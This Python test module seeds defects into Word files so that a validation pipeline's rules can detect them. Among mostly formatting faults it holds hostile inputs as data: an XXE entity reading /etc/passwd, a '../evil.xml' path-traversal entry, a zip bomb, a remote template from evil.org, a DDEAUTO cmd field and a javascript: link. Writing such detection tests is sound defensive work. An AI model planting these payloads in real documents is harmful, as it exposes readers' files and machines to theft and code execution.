"""Defects to seed in a sound Word file: what is done to it, and the rule that should find it.

Each is a mistake that a program, a hand or an enemy really makes. ``SEEDS`` names them; a rule
of ``None`` is left to the validators of others, which know the schema by heart.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from pipeline.word.package import pack, unpack

Parts = dict[str, bytes]

DOC, STYLES, SETTINGS = "word/document.xml", "word/styles.xml", "word/settings.xml"
RELS, TYPES, CORE = "word/_rels/document.xml.rels", "[Content_Types].xml", "docProps/core.xml"
NOTES, NUMBERS, CHART = "word/footnotes.xml", "word/numbering.xml", "word/charts/chart-1.xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True, slots=True)
class Seed:
    """One defect: its name, the rule that finds it, what it does to the bytes, in which locale."""

    name: str
    rule: str | None
    sow: Callable[[bytes], bytes]
    locale: str = "en"


def change(part: str, old: str, new: str, count: int = 1) -> Callable[[bytes], bytes]:
    """Make a seed that replaces what matches a pattern in a part."""

    def sow(data: bytes) -> bytes:
        parts = unpack(data)
        text, done = re.subn(old, new, parts[part].decode(), count=count, flags=re.DOTALL)
        assert done, f"nothing to seed in {part}: {old}"
        return pack(parts | {part: text.encode()})

    return sow


def parts(alter: Callable[[Parts], object]) -> Callable[[bytes], bytes]:
    """Make a seed that alters the parts in place."""

    def sow(data: bytes) -> bytes:
        found = unpack(data)
        alter(found)
        return pack(found)

    return sow


def also(*sown: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """Make a seed of several steps."""

    def sow(data: bytes) -> bytes:
        for step in sown:
            data = step(data)
        return data

    return sow


def body(markup: str) -> Callable[[bytes], bytes]:
    """Make a seed that adds markup at the end of the text."""
    return change(DOC, r"(<w:sectPr\b)", markup.replace("\\", r"\\") + r"\1")


def link(kind: str, target: str, more: str = "") -> Callable[[bytes], bytes]:
    """Make a seed that adds a relationship of the document, ``rX``."""
    node = f'<Relationship Id="rX" Type="{_OFFICE}/{kind}" Target="{target}"{more}/>'
    return change(RELS, "</Relationships>", node.replace("\\", r"\\") + "</Relationships>")


def added(name: str, data: bytes, kind: str) -> Callable[[bytes], bytes]:
    """Make a seed that adds a part with its content type."""
    typed = change(
        TYPES, "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    )
    return also(parts(lambda p: p.update({name: data})), typed)


def zipped(**changes: object) -> Callable[[bytes], bytes]:
    """Make a seed that writes the same parts into another zip."""

    def sow(data: bytes) -> bytes:
        out = io.BytesIO()
        found = list(unpack(data).items())
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, inner in reversed(found) if changes.get("turned") else found:
                entry = zipfile.ZipInfo(name, changes.get("date", (1980, 1, 1, 0, 0, 0)))
                entry.compress_type = changes.get("packing", zipfile.ZIP_DEFLATED)
                archive.writestr(entry, inner)
            if name := changes.get("twice"):
                archive.writestr(str(name), b"<a/>")
        return out.getvalue()

    return sow


P = "<w:p><w:r>{}<w:t>word</w:t></w:r></w:p>"
FIELD = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
MARK = '<w:p><w:bookmarkStart w:id="{0}" w:name="{1}"/><w:r><w:t>x</w:t></w:r>{2}</w:p>'
END = '<w:bookmarkEnd w:id="{}"/>'
CHANGED = 'w:id="9" w:author="CEO" w:date="2024-01-01T00:00:00Z"'

SEEDS = (
    Seed("a zip cut in half", "broken-zip", lambda data: data[: len(data) // 2]),
    Seed("a flipped bit", "broken-zip",
         lambda data: data[:3000] + bytes([data[3000] ^ 255]) + data[3001:]),
    Seed("a part twice", "broken-zip", zipped(twice=DOC)),
    Seed("a way out of the file", "broken-zip", zipped(twice="../evil.xml")),
    Seed("a script before the zip", "broken-zip", lambda data: b"#!/bin/sh\n" + data),
    Seed("a bomb", "broken-zip", parts(lambda p: p.update({"word/media/x.png": b"\0" * 20**6}))),
    Seed("no styles", "broken-zip", parts(lambda p: p.pop(STYLES))),
    Seed("today's date", "moving-zip", zipped(date=(2026, 1, 2, 3, 4, 6))),
    Seed("another order", "moving-zip", zipped(turned=True)),
    Seed("a DOCTYPE", "odd-xml", change(DOC, r"(standalone=.yes.\?>\s*)",
         r'\1<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    Seed("another encoding", "odd-xml", parts(lambda p: p.update({DOC: p[DOC].decode().replace(
         'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")}))),
    Seed("XML that does not close", "broken-zip", change(DOC, "</w:body>", "")),
    Seed("a comment in the XML", "odd-xml", body("<!--made by hand-->")),
    Seed("no type for pictures", "wrong-type", change(TYPES, '<Default Extension="png".*?/>', "")),
    Seed("a type for nothing", "wrong-type",
         change(TYPES, "</Types>", '<Override PartName="/word/gone.xml" ContentType="a/b"/></Types>')),
    Seed("a document with macros", "wrong-type",
         change(TYPES, r"wordprocessingml\.document\.main", "document.macroEnabled.main")),
    Seed("styles called settings", "wrong-type", change(TYPES, r"styles\+xml", "settings+xml")),
    Seed("a picture that is missing", "dangling-link",
         parts(lambda p: p.pop("word/media/picture-5.png"))),
    Seed("a picture that nothing shows", "dangling-link",
         also(link("image", "media/more.png"),
              parts(lambda p: p.update({"word/media/more.png": p["word/media/picture-5.png"]})))),
    Seed("a link without address", "dangling-link",
         change(RELS, r'<Relationship [^>]*?Target="https://example.org[^"]*"[^>]*/>', "")),
    Seed("two relationships of one id", "dangling-link",
         also(link("hyperlink", "https://a.org", ' TargetMode="External"'), link("hyperlink", "https://b.org", ' TargetMode="External"'))),
    Seed("a picture from the web", "outside-target",
         also(link("image", "https://tracker.example.org/a.png", ' TargetMode="External"'),
              change(DOC, r'r:embed="[^"]*"', 'r:link="rX"'))),
    Seed("a link into a machine", "outside-target",
         change(RELS, r'Target="https://example.org[^"]*"', 'Target="file:///home/li/plan.docx"')),
    Seed("a link to a share", "outside-target",
         change(RELS, r'Target="https://example.org[^"]*"', r'Target="\\\\\\\\server\\\\share"')),
    Seed("a link that runs", "outside-target",
         change(RELS, r'Target="https://example.org[^"]*"', 'Target="javascript:alert(1)"')),
    Seed("a link to an inner host", "outside-target",
         change(RELS, r'Target="https://example.org[^"]*"', 'Target="http://intranet/plan"')),
    Seed("a template from elsewhere", "outside-target", also(
         parts(lambda p: p.update({"word/_rels/settings.xml.rels": (
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             f'<Relationship Id="rT" Type="{_OFFICE}/attachedTemplate" Target="https://evil.org/x.dotm"'
             ' TargetMode="External"/></Relationships>').encode()})),
         change(SETTINGS, "(<w:defaultTabStop)", rf'<w:attachedTemplate xmlns:r="{_OFFICE}" r:id="rT"/>\1'))),
    Seed("a macro", "active-content",
         added("word/vbaProject.bin", b"\xd0\xcf", "application/vnd.ms-office.vbaProject")),
    Seed("a chunk of HTML", "active-content", also(
         added("word/chunk.html", b"<p>x</p>", "text/html"), link("aFChunk", "chunk.html"),
         body(f'<w:altChunk xmlns:r="{_OFFICE}" r:id="rX"/>'))),
    Seed("an old drawing", "active-content",
         body('<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"/></w:pict></w:r></w:p>')),
    Seed("foreign XML", "active-content",
         added("customXml/item1.xml", b"<a/>", "application/xml")),
    Seed("an insertion", "tracked-change",
         body(f"<w:p><w:ins {CHANGED}><w:r><w:t>forged</w:t></w:r></w:ins></w:p>")),
    Seed("a deletion", "tracked-change",
         body(f"<w:p><w:del {CHANGED}><w:r><w:delText>x</w:delText></w:r></w:del></w:p>")),
    Seed("a changed format", "tracked-change",
         body(P.format(f"<w:rPr><w:rPrChange {CHANGED}><w:rPr/></w:rPrChange></w:rPr>"))),
    Seed("a comment without text", "tracked-change",
         body('<w:p><w:r><w:commentReference w:id="7"/></w:r></w:p>')),
    Seed("tracking switched on", "tracked-change",
         change(SETTINGS, "(<w:defaultTabStop)", r"<w:trackRevisions/>\1")),
    Seed("hidden words", "hidden-text", body(P.format("<w:rPr><w:vanish/></w:rPr>"))),
    Seed("white words", "hidden-text", body(P.format('<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'))),
    Seed("a letter that turns the line", "hidden-text", body("<w:p><w:r><w:t>a\u202eb</w:t></w:r></w:p>")),
    Seed("a fact that was not filled in", "leftover-markup",
         body("<w:p><w:r><w:t>We have {registered} firms</w:t></w:r></w:p>")),
    Seed("a tag of a translator", "leftover-markup",
         body("<w:p><w:r><w:t>the &lt;em&gt;guide&lt;/em&gt;</w:t></w:r></w:p>")),
    Seed("a path in a description", "leaked-trace",
         change(DOC, r'(<wp:docPr[^>]*descr=")[^"]*"', r'\1a plan in /home/li/plan.png"')),
    Seed("a drive in a property", "leaked-trace",
         change(CORE, r"(<dc:description>)[^<]*", r"\1C:\\\\Users\\\\li\\\\plan")),
    Seed("who saved it last", "leaked-trace", change(CORE, "(<dc:language>)",
         r"<cp:lastModifiedBy>Li Lei</cp:lastModifiedBy>\1")),
    Seed("numbers of revisions", "leaked-trace", change(DOC, "<w:p>", '<w:p w:rsidR="00AB12CD">')),
    Seed("another program", "leaked-trace",
         change("docProps/app.xml", "Microsoft Office Word", "LibreOffice/7.4 Linux")),
    Seed("a note in a picture", "leaked-trace", parts(lambda p: p.update({
         "word/media/picture-5.png": p["word/media/picture-5.png"].replace(
             b"IDAT", b"tEXt", 1)}))),
    Seed("two pictures of one id", "doubled-id",
         change(DOC, r'(<wp:docPr [^>]*?)id="10[0-9]"(.*?<wp:docPr [^>]*?)id="10[0-9]"', r'\1id="104"\2id="104"')),
    Seed("two styles of one id", "doubled-id", change(STYLES, 'w:styleId="Lede"', 'w:styleId="Date"')),
    Seed("a paraId too high", "doubled-id", change(DOC, "<w:p>",
         '<w:p xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" w14:paraId="F0000001">')),
    Seed("two paragraphs of one id", "doubled-id", change(DOC, "<w:p>",
         '<w:p xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" w14:paraId="10000001">', 2)),
    Seed("two bookmarks of one name", "stray-bookmark",
         body(MARK.format(91, "end", END.format(91)) + MARK.format(92, "end", END.format(92)))),
    Seed("a bookmark that never ends", "stray-bookmark", body(MARK.format(91, "endless", ""))),
    Seed("a bookmark nobody wants", "stray-bookmark", body(MARK.format(91, "idle", END.format(91)))),
    Seed("a link to no bookmark", "stray-bookmark",
         change(DOC, r'w:anchor="[^"]*"', 'w:anchor="nowhere"')),
    Seed("a reference to no bookmark", "stray-bookmark", body(FIELD.format(" REF _Ref99 \\\\h "))),
    Seed("a field that runs", "broken-field",
         body(FIELD.format(" DDEAUTO c:\\\\\\\\windows cmd ")), ),
    Seed("a field that reads", "broken-field", body(FIELD.format(" INCLUDETEXT x.docx "))),
    Seed("a field that never ends", "broken-field",
         body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>')),
    Seed("a footnote without text", "lost-note", change(NOTES, r'<w:footnote w:id="[1-9]\d*".*?</w:footnote>', "")),
    Seed("a footnote nobody calls", "lost-note",
         change(DOC, r"<w:r>(?:(?!</w:r>).)*<w:footnoteReference[^>]*/></w:r>", "")),
    Seed("a list that is missing", "lost-number", change(DOC, r'<w:numId w:val="\d+"/>', '<w:numId w:val="4711"/>')),
    Seed("a list of no kind", "lost-number",
         change(NUMBERS, r'<w:abstractNumId w:val="\d+"/>', '<w:abstractNumId w:val="4711"/>')),
    Seed("a style that is missing", "lost-style", change(DOC, 'w:val="Lede"', 'w:val="Lead"')),
    Seed("a paragraph in a letter's style", "lost-style", change(DOC, 'w:val="Lede"', 'w:val="Hyperlink"')),
    Seed("a style of no parent", "lost-style",
         change(STYLES, '<w:basedOn w:val="BodyText"/>', '<w:basedOn w:val="Gone"/>')),
    Seed("a style that is its own parent", "lost-style", change(STYLES,
         r'(w:styleId="BodyText".*?)<w:basedOn w:val="Normal"/>', r'\1<w:basedOn w:val="Lede"/>')),
    Seed("Chinese called Japanese", "wrong-language", change(STYLES, 'w:eastAsia="zh-CN"', 'w:eastAsia="ja-JP"'), "zh_CN"),
    Seed("no language", "wrong-language", change(CORE, "<dc:language>.*?</dc:language>", "")),
    Seed("English called Chinese", "wrong-language", change(CORE, "(<dc:language>)[^<]*", r"\1zh-CN")),
    Seed("Chinese that was never translated", "foreign-text", change(DOC, "[\u4e00-\u9fff]", "word ", 9999), "zh_CN"),
    Seed("a theme of another language", "wrong-language",
         change(SETTINGS, r'(<w:themeFontLang [^>]*?w:eastAsia=")zh-CN', r"\1ja-JP"), "zh_CN"),
    Seed("a Han run without a hint", "unhinted-han", change(DOC, ' w:hint="eastAsia"', "", 3), "zh_CN"),
    Seed("slanted Han", "slanted-han", change(DOC, '<w:em w:val="dot"/>', "<w:i/>"), "zh_CN"),
    Seed("a chart without words", "no-alt-text", change(DOC, r'(<wp:docPr[^>]*) descr="[^"]*"', r"\1")),
    Seed("a file's name for words", "no-alt-text", change(DOC, r'(<wp:docPr[^>]* descr=")[^"]*"', r'\1plan_final.png"')),
    Seed("a heading two levels down", "heading-jump", change(DOC, 'w:val="Heading2"', 'w:val="Heading4"')),
    Seed("an empty heading", "heading-jump", body('<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr></w:p>')),
    Seed("a heading made by hand", "heading-jump",
         body('<w:p><w:r><w:rPr><w:b/><w:sz w:val="36"/></w:rPr><w:t>Section</w:t></w:r></w:p>')),
    Seed("a blank paragraph", "blank-paragraph", body("<w:p/>")),
    Seed("an indent of blanks", "blank-paragraph",
         body('<w:p><w:r><w:t xml:space="preserve">\u3000\u3000段落</w:t></w:r></w:p>')),
    Seed("a blank that Word drops", "lost-blank", change(DOC, r'<w:t xml:space="preserve">(?= |[^<]* <)', "<w:t>", 99)),
    Seed("large red letters", "odd-letters", body(P.format('<w:rPr><w:color w:val="FF0000"/><w:sz w:val="60"/></w:rPr>'))),
    Seed("the name of a user", "no-title", change(CORE, "(<dc:creator>)[^<]*", r"\1root")),
    Seed("no title", "no-title", change(CORE, "<dc:title>.*?</dc:title>", "<dc:title/>")),
    Seed("another title", "no-title", change(CORE, "<dc:title>.*?</dc:title>", "<dc:title>Draft</dc:title>")),
    Seed("no author", "no-title", change(CORE, "<dc:creator>.*?</dc:creator>", "")),
    Seed("the time of making", "no-title", change(CORE, "T00:00:00Z", "T13:37:42Z")),
    Seed("no section", "wrong-page", change(DOC, "<w:sectPr.*?</w:sectPr>", "")),
    Seed("margins wider than the page", "wrong-page", change(DOC, r'(<w:pgMar[^>]*w:left=")\d+', r"\g<1>16000")),
    Seed("no header", "wrong-page", change(DOC, "<w:headerReference[^>]*/>", "")),
    Seed("a folio typed by hand", "wrong-page",
         change("word/footer1.xml", r"<w:fldSimple[^>]*NUMPAGES[^>]*>(.*?)</w:fldSimple>", r"\1")),
    Seed("a table without a head", "wrong-table", change(DOC, r"<w:tblHeader[^>]*/>", "", 9)),
    Seed("a grid of another width", "wrong-table", change(DOC, r'(w:val="Table"/>.*?<w:gridCol w:w=")\d+', r"\g<1>9000")),
    Seed("a table narrower than the text", "wrong-table", also(
         change(DOC, r'(w:val="KeyFigures"/>.*?<w:tblW [^>]*w:w=")\d+', r"\g<1>7920"))),
    Seed("a row that breaks", "wrong-table", change(DOC, "<w:cantSplit/>", "", 4)),
    Seed("Word's own line pitch", "wrong-pitch",
         change(STYLES, r'(w:styleId="Normal".*?w:lineRule=")exact', r"\1auto"), "zh_CN"),
    Seed("a paragraph off the pitch", "wrong-pitch",
         body('<w:p><w:pPr><w:spacing w:line="480" w:lineRule="auto"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>')),
    Seed("an older Word", "wrong-settings", change(SETTINGS, r'(compatibilityMode"[^>]*w:val=")15', r"\g<1>11")),
    Seed("no rule for Chinese marks", "wrong-settings", change(SETTINGS, "<w:noLineBreaksBefore[^>]*/>", ""), "zh_CN"),
    Seed("a question at opening", "wrong-settings", change(SETTINGS, "(<w:defaultTabStop)", r'<w:updateFields w:val="true"/>\1')),
    Seed("a face from nowhere", "lost-face", body(P.format('<w:rPr><w:rFonts w:ascii="Comic Sans MS"/></w:rPr>'))),
    Seed("a picture that is none", "wrong-picture", parts(lambda p: p.update({"word/media/picture-5.png": b"<html>"}))),
    Seed("a picture cut off", "wrong-picture",
         parts(lambda p: p.update({"word/media/picture-5.png": p["word/media/picture-5.png"][:-20]}))),
    Seed("a squeezed picture", "wrong-picture", change(DOC,
         r'(<wp:extent[^>]*cx="\d+" cy=")\d+("[^>]*/>(?:(?!<wp:extent).)*<pic:pic)', r"\g<1>100000\2")),
    Seed("a picture wider than the page", "wrong-picture", change(DOC, r'(<wp:extent[^>]*cx=")\d+', r"\g<1>99999999")),
    Seed("a chart without workbook", "wrong-chart", change(CHART, "<c:externalData.*?</c:externalData>", "")),
    Seed("a figure in the chart alone", "wrong-chart", change(CHART, r"(<c:numCache>.*?<c:v>)[^<]*", r"\g<1>9999")),
    Seed("a category in the chart alone", "wrong-chart", change(CHART, "(<c:cat>.*?<c:v>)[^<]*", r"\1Gone")),
    Seed("a workbook from elsewhere", "wrong-chart", also(change(
         "word/charts/_rels/chart-1.xml.rels", r'Target="[^"]*"',
         r'Target="file:///C:/figures.xlsx" TargetMode="External"'))),
    Seed("a title that Office makes", "wrong-chart", change(CHART, '(<c:autoTitleDeleted val=")1', r"\g<1>0")),
    Seed("figures of another sheet", "wrong-chart", change(CHART, "Sheet1!", "Sheet2!")),
    Seed("a damaged picture", "wrong-picture", parts(lambda p: p.update({
         "word/media/picture-5.png": p["word/media/picture-5.png"].replace(b"IDAT", b"IDAX", 1)}))),
    Seed("a cover narrower than the page", "wrong-table", change(DOC, r'(<w:tblW w:w=")\d+', r"\g<1>9000")),
    Seed("another packer", "moving-zip", zipped(packing=zipfile.ZIP_STORED)),
    Seed("an element where none may stand", None, change(DOC, "<w:body>", "<w:body><w:sz/>")),
    Seed("properties out of order", None, body('<w:p><w:r><w:rPr><w:color w:val="111111"/><w:b/></w:rPr><w:t>x</w:t></w:r></w:p>')),
    Seed("a value of no kind", None, body('<w:p><w:pPr><w:jc w:val="middle"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>')),
)  # fmt: skip
